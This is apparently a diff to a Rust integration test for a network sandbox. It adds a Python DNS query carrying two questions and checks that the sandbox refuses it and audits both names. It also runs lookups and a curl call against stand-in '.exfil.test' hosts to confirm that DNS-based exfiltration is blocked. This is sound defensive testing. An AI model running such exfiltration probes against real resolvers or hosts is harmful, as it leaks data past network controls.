@@ -13,6 +13,17 @@ use std::sync::{Arc, Mutex};
 use airlock_tests::tls::{TestPki, TlsOrigin};
 use airlock_tests::*;
 
+/// A DNS query with two questions, sent to the sandbox's resolver; prints
+/// the answer's response code.
+const TWO_QUESTIONS: &str = r#"
+import socket, struct
+def q(n): return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
+pkt = struct.pack(">HHHHHH", 0x1234, 0x0100, 2, 0, 0, 0) + q("two-a1.exfil.test") + q("two-b2.exfil.test")
+ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(pkt, (ns, 53))
+print("two-q rcode", s.recv(512)[3] & 15)
+"#;
+
 fn base() -> PathBuf {
     std::env::var_os("AIRLOCK_TEST_DIR")
         .map(PathBuf::from)
@@ -608,7 +619,8 @@ fn a_name_awaiting_approval_is_never_looked_up_before_it() {
             "echo allowed: $(getent hosts allowed.test)\n\
              echo secret: $(getent hosts secret-4f2a.exfil.test)\n\
              python3 -c 'import socket; socket.getaddrinfo(\"py-9c1d.exfil.test\", 443)' 2>&1 | tail -1\n\
-             curl -sS --noproxy '*' -m 10 http://conn-77ab.exfil.test:{p}/; echo curl-rc=$?\n"
+             curl -sS --noproxy '*' -m 10 http://conn-77ab.exfil.test:{p}/; echo curl-rc=$?\n\
+             python3 -c '{TWO_QUESTIONS}' 2>&1 | tail -1\n"
         );
         let mut cmd = f.command(
             &[
@@ -648,6 +660,16 @@ fn a_name_awaiting_approval_is_never_looked_up_before_it() {
         );
         assert_eq!(origin.hits(), 0);
         let events = audit_events(&audit);
+        // Two questions in one query: refused, and both names audited.
+        assert!(out.stdout.contains("two-q rcode 1"), "{}", show(&out));
+        for name in ["two-a1.exfil.test", "two-b2.exfil.test"] {
+            assert!(
+                events
+                    .iter()
+                    .any(|e| e["event"] == "dns" && e["name"] == name && e["outcome"] == "refused"),
+                "no dns event for {name}\n{events:#?}"
+            );
+        }
         for name in [
             "allowed.test",
             "secret-4f2a.exfil.test",
